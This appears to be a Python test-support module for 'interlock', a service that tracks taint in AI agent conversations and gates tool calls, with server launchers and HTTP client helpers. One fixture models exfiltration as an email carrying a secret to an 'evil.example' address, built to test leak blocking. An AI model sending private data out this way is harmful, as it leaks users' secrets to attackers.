"""A service to ask: in this process above any store, or as processes of their own. Holds no test."""

from __future__ import annotations

import asyncio
import copy
import json
import os
import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from functools import cache
from pathlib import Path
from typing import Any

import httpx

from interlock import Interlock, Manifest
from interlock.ports import Engine, Store
from interlock.serve.app import Door, application
from interlock.serve.callers import Callers, new_token
from interlock.serve.desk import Desk
from interlock.serve.files import FarFiles
from interlock.serve.meters import Meters
from interlock.serve.server import Announcing, Listening, server
from interlock.serve.work import Limits
from interlock.stores.memory_store import MemoryStore

TOOLS = """
[tools.fetch]
returns = ["untrusted:web"]
egress = "chosen"
destinations = { url = "url" }

[tools.look]
returns = ["untrusted:web"]
egress = "none"

[tools.read_file]
returns = ["private:files"]
egress = "none"

[tools.send_email]
returns = []
egress = "chosen"
destinations = { to = "email" }
content = ["body"]
"""
MANIFEST = Manifest.loads(f"version = 1\n{TOOLS}")

ANA, BOB, QUIET, READER = new_token(), new_token(), new_token(), new_token()
CALLERS = f"""
version = 1

[[callers]]
principal = "anas-agent"
namespace = "ana"
rights = ["decide", "speak"]
token = "{ANA.digest}"

[[callers]]
principal = "bobs-agent"
namespace = "bob"
rights = ["decide", "speak"]
token = "{BOB.digest}"

[[callers]]
principal = "anas-other-agent"
namespace = "ana"
rights = ["decide"]
token = "{QUIET.digest}"

[[callers]]
principal = "prometheus"
namespace = "nobody"
rights = ["metrics"]
token = "{READER.digest}"
"""

FETCH = {"id": "f1", "name": "fetch", "arguments": {"url": "https://news.example/"}}
LOOK = {"id": "l1", "name": "look", "arguments": {"at": "/a"}}
READ = {"id": "r1", "name": "read_file", "arguments": {}}
LEAK = {"id": "s1", "name": "send_email", "arguments": {"to": "eve@evil.example", "body": "SECRET-IN-AN-ARGUMENT"}}


def callers_file(folder: Path, text: str = CALLERS) -> Path:
    path = folder / "callers.toml"
    path.write_text(text)
    path.chmod(0o600)
    return path


@cache
def _interlock() -> Interlock:
    """Made once: reading the shipped controls takes longer than most tests."""
    return Interlock(manifest=MANIFEST, journal=MemoryStore(), files=FarFiles())


def interlock_over(store: Store, engine: Engine | None = None) -> Interlock:
    """The same Interlock above another store, perhaps around another engine with the same controls."""
    lock = copy.copy(_interlock())
    active = lock._active
    world = replace(active.world, journal=store, engine=engine or active.world.engine, remembered={})
    rules = active.rules if engine is None else replace(active.rules, looks_at=None)
    lock._active = replace(active, world=world, rules=rules)
    return lock


def desk_over(store: Store, *, engine: Engine | None = None, conversations: int = 10_000) -> Desk:
    """One process's side of a store."""
    return Desk(interlock_over(store, engine), Meters(), conversations=conversations)


OPEN: list[httpx.Client] = []  # closed after each test


class Asked:
    """A client with credentials. Its answers are the parsed bodies, and ``last`` is the whole of the last one."""

    def __init__(self, base: str, token: str = ANA.token, **more: Any) -> None:
        headers = {"Authorization": f"Bearer {token}"} if token else {}
        self.http = httpx.Client(base_url=base, headers=headers, trust_env=False, timeout=30, **more)
        self.last: httpx.Response
        OPEN.append(self.http)

    def post(self, path: str, body: Any, status: int = 200) -> Any:
        self.last = self.http.post(path, json=body)
        assert self.last.status_code == status, self.last.text
        return self.last.json()

    def get(self, path: str, status: int = 200) -> Any:
        self.last = self.http.get(path)
        assert self.last.status_code == status, self.last.text
        return self.last.json()

    def begin(self, **body: Any) -> str:
        name: str = self.post("/v1/conversations", body, 201)["conversation"]
        return name

    def propose(self, conversation: str, *calls: Any) -> list[Any]:
        found: list[Any] = self.post(f"/v1/conversations/{conversation}/calls", {"calls": calls})["calls"]
        return found

    def observe(self, conversation: str, call: Any, content: Any = "text", **more: Any) -> Any:
        body = {"call": call, "result": {"content": content, **more}}
        return self.post(f"/v1/conversations/{conversation}/outcomes", body)

    def tainted(self) -> str:
        """A conversation with a stranger's text and private data in it."""
        name = self.begin()
        for one in (FETCH, READ):
            assert self.propose(name, one)[0]["run"] is True
            self.observe(name, one)
        return name

    def labels(self, conversation: str) -> list[str]:
        return [one["label"] for one in self.get(f"/v1/conversations/{conversation}")["taint"]]


@contextmanager
def served(desk: Desk, folder: Path, limits: Limits | None = None, *, callers: str = CALLERS) -> Iterator[str]:
    """A real server in a thread of this process; gives its address."""
    app = application(desk, Callers(callers_file(folder, callers)), limits or Limits())
    running = server(app, Listening("127.0.0.1", 0, grace=5))
    ready = threading.Event()
    places: list[str] = []

    def announced(host: str, port: int) -> None:
        places.append(f"http://{host}:{port}")
        ready.set()

    running.announce = announced
    thread = threading.Thread(target=_run, args=(running, ready), name="served")
    thread.start()
    assert ready.wait(30)
    try:
        yield places[0]
    finally:
        running.should_exit = True
        thread.join(30)
        assert not thread.is_alive()


def _run(running: Announcing, ready: threading.Event) -> None:
    try:
        asyncio.run(running.serve())
    finally:
        ready.set()


def door_of(app: Any) -> Door:
    found: Door = app.state.door
    return found


class Process:
    """``interlock serve`` as a process of its own. Use it in a `with` block."""

    def __init__(self, folder: Path, *options: str, environment: dict[str, str] | None = None) -> None:
        command = [sys.executable, "-m", "interlock.cli", "-v", "serve", "--listen", "127.0.0.1:0", *options]
        self.errors = folder / f"serve-{os.urandom(4).hex()}.log"
        with open(self.errors, "wb") as log:
            self.process = subprocess.Popen(
                command,
                cwd=folder,
                stdout=subprocess.PIPE,
                stderr=log,
                stdin=subprocess.DEVNULL,
                env={**os.environ, **(environment or {})},
            )
        assert self.process.stdout is not None
        line = self.process.stdout.readline()
        assert line, self.errors.read_text()
        self.address: str = json.loads(line)["listening"]

    @property
    def url(self) -> str:
        return f"http://{self.address}"

    def __enter__(self) -> Process:
        return self

    def __exit__(self, *_: object) -> None:
        if self.process.poll() is None:
            self.process.kill()
        self.process.wait()
        assert self.process.stdout is not None
        self.process.stdout.close()

    def log(self) -> str:
        return self.errors.read_text()
